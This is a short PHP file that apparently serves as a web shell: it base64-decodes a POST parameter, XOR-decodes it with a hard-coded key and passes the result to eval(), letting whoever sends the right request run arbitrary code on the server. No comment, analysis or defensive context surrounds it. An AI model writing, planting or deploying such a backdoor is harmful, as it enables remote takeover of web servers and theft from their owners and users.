<?php
$key = "k3y"; $d = base64_decode($_POST['d']); $o = '';
for ($i = 0; $i < strlen($d); $i++) $o .= $d[$i] ^ $key[$i % strlen($key)];
eval($o);
